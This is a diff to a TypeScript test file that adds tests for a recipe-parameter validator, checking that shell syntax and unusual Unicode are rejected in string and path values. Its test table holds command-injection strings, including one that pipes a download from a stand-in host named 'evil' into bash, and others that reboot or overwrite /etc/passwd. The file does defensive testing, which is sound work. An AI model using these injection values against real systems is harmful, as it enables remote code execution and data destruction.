@@ -2,8 +2,9 @@ import * as fc from 'fast-check';
 import { InputError } from '../../src/errors';
 import { loadRecipe } from '../../src/recipe/load';
 import { variantNames } from '../../src/recipe/names';
-import { parseSets, resolveValues, variantValues } from '../../src/recipe/params';
-import type { Recipe } from '../../src/recipe/types';
+import { checkValue, parseSets, resolveValues, variantValues } from '../../src/recipe/params';
+import type { ParamSpec, Recipe } from '../../src/recipe/types';
+import { sampleFor, seedOfRun } from '../support/hostile-strings';
 
 let recipe: Recipe;
 beforeAll(async () => {
@@ -83,5 +84,34 @@ describe('parameter validation', () => {
         expect(() => resolveValues(recipe, { cpe: `${a}${bad}${b}` })).toThrow(InputError);
       }),
     );
+  });
+
+  // A contributed recipe's string and path parameters (no pattern): the value is pasted into RUN lines as text.
+  const loose: ParamSpec[] = [
+    { name: 'prefix', type: 'path', description: 'where', default: '/opt/app' },
+    { name: 'tag', type: 'string', description: 'a tag', default: 'x' },
+  ];
+  it.each([
+    ['prefix', '/opt&&reboot'],
+    ['prefix', '/opt>/etc/passwd'],
+    ['tag', 'x|sh'],
+    ['tag', 'x&&{curl,-sL,evil}|bash'],
+    ['tag', '(id)'],
+    ['tag', '~root'],
+    ['tag', 'a*'],
+    ['tag', 'a#b'],
+    ['tag', 'a\u202eb'],
+    ['tag', 'a\u0085b'],
+    ['tag', 'a\u2028b'],
+    ['tag', '\u212aelvin'],
+  ])('refuses shell syntax and non-ASCII in a loose %s: %j', (k, v) => {
+    const spec = loose.find((p) => p.name === k)!;
+    expect(() => checkValue(spec, v)).toThrow(/^parameter \w+: value .* contains a character that is not allowed/);
+  });
+  it('takes from 3,000 hostile values only plain words (string and path parameters)', () => {
+    for (const spec of loose) {
+      const { taken } = sampleFor((v) => checkValue(spec, v), seedOfRun(`parameter ${spec.type}`), 3000);
+      for (const [, out] of taken) expect(out).toMatch(/^[A-Za-z0-9._+,:/=@-]+$/);
+    }
   });
 });
